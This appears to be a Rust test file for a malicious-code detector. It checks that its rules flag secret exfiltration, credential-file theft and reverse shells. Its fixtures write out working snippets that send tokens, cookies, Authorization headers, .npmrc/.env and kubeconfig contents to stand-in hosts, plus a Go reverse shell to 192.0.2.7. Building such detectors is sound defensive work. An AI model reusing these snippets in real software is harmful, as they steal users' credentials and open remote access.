//! What is picked out because its name is one of secrets, or of a file that holds some, and what nobody hears of again.

use super::*;

const TOLD: &str = "flow-secret-told";
const SENT: &str = "flow-credentials-sent";

#[track_caller]
fn tells(language: Language, code: &str) {
    assert!(rules(language, code).contains(&TOLD), "{code}");
}

#[track_caller]
fn tells_not(language: Language, code: &str) {
    assert!(!rules(language, code).contains(&TOLD), "{code}");
}

#[test]
fn what_has_the_name_of_a_secret_is_told() {
    let told = "fetch('https://note.vendor.invalid/a?v=' + encodeURIComponent(value)).catch(() => {});";
    let function = |body: &str| format!("exports.set = (key, value) => {{ {body} }};");
    for body in [
        format!("if (/token|sess/i.test(key)) {told}"),
        format!("if (['password', 'otp'].includes(key)) {{ {told} }}"),
        format!("if (!/passw|jwt/.test(key) || value.length < 9) return; {told}"),
        format!("const names = new Set(['cookie', 'authorization']); if (names.has(key)) {told}"),
    ] {
        tells(Language::JavaScript, &function(&body));
    }
    for body in [
        // What is told of everything else, what somebody waits for, and what goes where a caller says.
        format!("if (/token|sess/i.test(key)) return; {told}"),
        format!("if (!/token|sess/i.test(key)) {told}"),
        format!("if (/colour|size/.test(key)) {told}"),
        told.to_owned(),
        "if (/token/.test(key)) return fetch('https://note.vendor.invalid/a?v=' + value);".to_owned(),
        "if (/token/.test(key)) fetch(this.base + '/a?v=' + value).catch(() => {});".to_owned(),
    ] {
        tells_not(Language::JavaScript, &function(&body));
    }
}

#[test]
fn errors_that_nothing_is_done_with_are_dropped() {
    let asked = |then: &str| {
        format!(
            "const https = require('https');\nexports.put = (key, value) => {{ if (/token/.test(key)) {{\n\
             const r = https.request({{ hostname: 'note.vendor.invalid', path: '/a', method: 'POST' }});\n\
             {then}\nr.end(JSON.stringify([key, value])); }} }};"
        )
    };
    tells(Language::JavaScript, &asked("r.on('error', () => {});"));
    tells_not(Language::JavaScript, &asked("r.on('error', (e) => { throw e; });"));
    tells_not(Language::JavaScript, &asked(""));
}

#[test]
fn log_ins_are_picked_out_of_headers() {
    let sent = |before: &str, after: &str| {
        format!(
            "import json, threading, urllib.request\n\ndef request(url, headers):\n    {before}\n    try:\n        \
             urllib.request.urlopen('https://stats.vendor.invalid/a', json.dumps([url, found]).encode()){after}\n    \
             except OSError:\n        pass\n"
        )
    };
    tells(
        Language::Python,
        &sent("found = [v for k, v in headers.items() if k.lower() in ('authorization', 'cookie')]", ""),
    );
    tells(Language::Python, &sent("found = headers.get('Authorization')", ".close()"));
    tells_not(
        Language::Python,
        &sent("found = [v for k, v in headers.items() if k.lower() in ('accept', 'host')]", ""),
    );
    tells_not(Language::Python, &sent("found = headers.get('Accept')", ".close()"));
    // A thread that nobody hears of again.
    tells(
        Language::Python,
        "import json, threading, urllib.request\n\ndef request(url, headers):\n    found = headers.get('Authorization')\n    \
         threading.Thread(target=lambda: urllib.request.urlopen('https://stats.vendor.invalid/a', json.dumps([found]).encode())).start()\n",
    );
}

#[test]
fn files_are_picked_by_their_names() {
    let walk = |test: &str| {
        format!(
            "import {{ readdir, readFile }} from 'fs/promises';\nimport {{ homedir }} from 'os';\n\
             async function* walk(dir) {{ for (const e of await readdir(dir).catch(() => [])) {{ if ({test}) yield e; }} }}\n\
             export async function look() {{ for await (const f of walk(homedir())) {{\n\
             await fetch('https://names.vendor.invalid/q?n=' + (await readFile(f)).toString('hex')).catch(() => {{}}); }} }}\n"
        )
    };
    assert!(rules(Language::JavaScript, &walk("/^\\.(npmrc|env)$/.test(e) || e === '.npmrc'")).contains(&SENT));
    assert!(!rules(Language::JavaScript, &walk("e.endsWith('.md')")).contains(&SENT));
    let config = |variable: &str| {
        format!(
            "import os, urllib.request\n\ndef tell():\n    with open(os.environ['{variable}'], 'rb') as f:\n        \
             urllib.request.urlopen('https://ctx.vendor.invalid/a', f.read()).close()\n"
        )
    };
    assert!(rules(Language::Python, &config("KUBECONFIG")).contains(&SENT));
    assert!(!rules(Language::Python, &config("REPORT")).contains(&SENT));
}

#[test]
fn lists_of_numbers_are_made_by_their_elements() {
    let code = "const b = Uint8Array.of(101, 99, 104, 111, 32, 104, 105);\nrequire('child_process').exec(Buffer.from(b).toString());";
    assert_eq!(subject(&outcome(Language::JavaScript, code), Act::Run), "echo hi");
}

#[test]
fn a_program_of_go_may_be_called_something_else() {
    let job = |path: &str, stream: &str| {
        format!(
            "package a\n\nimport (\n\t\"net\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc Ship() {{\n\tsink, _ := net.Dial(\"tcp\", \"192.0.2.7:53\")\n\t\
             job := exec.Cmd{{Path: \"{path}\", Args: []string{{\"resolved\", \"-i\"}}, Stdin: {stream}, Stdout: {stream}}}\n\t_ = job.Run()\n\t_ = sink\n\t_ = os.Stdin\n}}\n"
        )
    };
    assert!(rules(Language::Go, &job("/bin/sh", "sink")).contains(&"flow-reverse-shell"));
    assert!(!rules(Language::Go, &job("/bin/sh", "os.Stdin")).contains(&"flow-reverse-shell"));
}

#[test]
fn a_function_is_called_by_its_own_call() {
    let code = "import os\nos.system.__call__('echo hi')\n";
    assert_eq!(subject(&python(code), Act::Run), "echo hi");
}

#[test]
fn headers_that_a_caller_may_leave_out_are_theirs() {
    let code = "import json, urllib.request\n\ndef request(url, **kw):\n    h = dict(kw.get('headers') or {})\n    \
                found = [v for k, v in h.items() if k.lower() in ('authorization', 'cookie')]\n    try:\n        \
                urllib.request.urlopen('https://stats.vendor.invalid/a', json.dumps(found).encode())\n    \
                except OSError:\n        pass\n";
    tells(Language::Python, code);
}
